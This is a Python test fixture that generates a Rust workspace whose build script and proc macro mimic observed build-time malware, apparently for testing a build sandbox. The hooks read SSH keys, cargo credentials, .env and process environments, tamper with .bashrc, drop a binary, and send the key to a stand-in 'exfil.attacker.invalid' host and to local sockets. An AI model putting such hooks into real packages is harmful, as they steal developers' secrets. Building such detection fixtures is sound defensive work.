"""A workspace whose build script and proc macro try what malware was seen to try, on made-up files and addresses only.

Nothing in it is a secret or reaches anybody: the files are those that `observe` plants, the names end in `.invalid`,
the addresses are this machine's own. It takes no crate from elsewhere, so that cargo needs no network.
"""

from __future__ import annotations

from pathlib import Path

BUILD_SCRIPT = r"""
use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::os::unix::net::UnixStream;
use std::{env, fs, process::Command};

extern "C" {
    fn syscall(number: i64, ...) -> i64;
    fn fork() -> i32;
    fn setsid() -> i32;
    fn waitpid(pid: i32, status: *mut i32, options: i32) -> i32;
    fn _exit(code: i32) -> !;
}

fn in_a_child(act: impl Fn()) {
    unsafe {
        let child = fork();
        if child == 0 {
            act();
            _exit(0);
        }
        waitpid(child, std::ptr::null_mut(), 0);
    }
}

fn main() {
    let home = env::var("HOME").unwrap();
    let tokens = env::vars().filter(|(name, _)| name.contains("TOKEN")).count();
    println!("cargo:warning=tokens seen: {tokens}");
    println!("cargo:warning=user's token: {}", env::var("REAL_TOKEN").is_ok());
    println!("cargo:warning=\x1b[31mred");

    let key = fs::read_to_string(format!("{home}/.ssh/id_ed25519")).unwrap_or_default();
    println!("cargo:warning=user's key: {}", key.contains("REAL KEY"));
    let _ = fs::read(format!("{}/credentials.toml", env::var("CARGO_HOME").unwrap()));
    let _ = fs::read("../.env");
    let _ = fs::read("/proc/1/environ");
    let _ = fs::OpenOptions::new().append(true).open(format!("{home}/.bashrc"));
    let _ = fs::write("src/lib.rs", "changed");
    let _ = fs::write("/tmp/git-updater.bin", "dropped");
    let out = env::var("OUT_DIR").unwrap();
    let _ = fs::write(format!("{out}/fine.rs"), "");
    let _ = fs::write(format!("{out}/../../../deps/libother.rlib"), "not mine");
    let _ = std::os::unix::fs::symlink(format!("{home}/.profile"), format!("{out}/link"));
    let _ = fs::OpenOptions::new().append(true).open(format!("{out}/link"));

    let _ = "exfil.attacker.invalid:443".to_socket_addrs();
    if let Ok(mut stream) = TcpStream::connect("127.0.0.1:@PORT@") {
        let _ = stream.write_all(key.as_bytes());
    }
    if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
        let _ = socket.send_to(key.as_bytes(), "127.0.0.1:45998");
    }
    let _ = UnixStream::connect("/var/run/docker.sock");
    let _ = Command::new("sh").args(["-c", "true; exit 0"]).status();

    in_a_child(|| unsafe {
        if fork() == 0 {
            setsid();
            let _ = TcpStream::connect("127.0.0.1:45997");
            _exit(0);
        }
    });
    for call in [@REFUSED@] {
        in_a_child(|| unsafe { syscall(call, 0u64, 0u64, 0u64, 0u64, 0u64); });
    }
    in_a_child(|| unsafe { syscall(@SOCKET@, 40u64, 1u64, 0u64); });
    std::thread::sleep(std::time::Duration::from_millis(50));
}
"""

MACRO = r"""
extern crate proc_macro;

#[proc_macro]
pub fn greet(_: proc_macro::TokenStream) -> proc_macro::TokenStream {
    let _ = std::fs::read(format!("{}/.ssh/id_rsa", std::env::var("HOME").unwrap()));
    let _ = std::net::TcpStream::connect("127.0.0.1:45996");
    "pub fn hello() {}".parse().unwrap()
}
"""

_FILES = {
    "Cargo.toml": '[workspace]\nmembers = ["coiled", "lacquer", "lattice"]\nresolver = "2"\n',
    "Cargo.lock": """\
version = 4

[[package]]
name = "coiled"
version = "0.3.1"

[[package]]
name = "lacquer"
version = "1.2.0"

[[package]]
name = "lattice"
version = "0.1.0"
dependencies = [
 "coiled",
 "lacquer",
]
""",
    ".env": "REAL=1\n",
    "coiled/Cargo.toml": '[package]\nname = "coiled"\nversion = "0.3.1"\nedition = "2021"\n',
    "coiled/src/lib.rs": "",
    "lacquer/Cargo.toml": (
        '[package]\nname = "lacquer"\nversion = "1.2.0"\nedition = "2021"\n\n[lib]\nproc-macro = true\n'
    ),
    "lacquer/src/lib.rs": MACRO,
    "lattice/Cargo.toml": """\
[package]
name = "lattice"
version = "0.1.0"
edition = "2021"

[dependencies]
coiled = { path = "../coiled" }
lacquer = { path = "../lacquer" }
""",
    "lattice/src/lib.rs": "lacquer::greet!();\n",
}
_CALLS = {
    # io_uring_setup, ptrace, seccomp, unshare, keyctl; socket
    "x86_64": ("425, 101, 317, 272, 250", "41"),
    "aarch64": ("425, 117, 277, 97, 219", "198"),
}


def write_observed_workspace(folder: Path, machine: str, port: int) -> None:
    """Write the workspace. machine: whose numbers of system calls are used; port: of this machine, to connect to."""
    refused, socket = _CALLS[machine]
    script = BUILD_SCRIPT.replace("@REFUSED@", refused).replace("@SOCKET@", socket).replace("@PORT@", str(port))
    for name, text in {**_FILES, "coiled/build.rs": script}.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
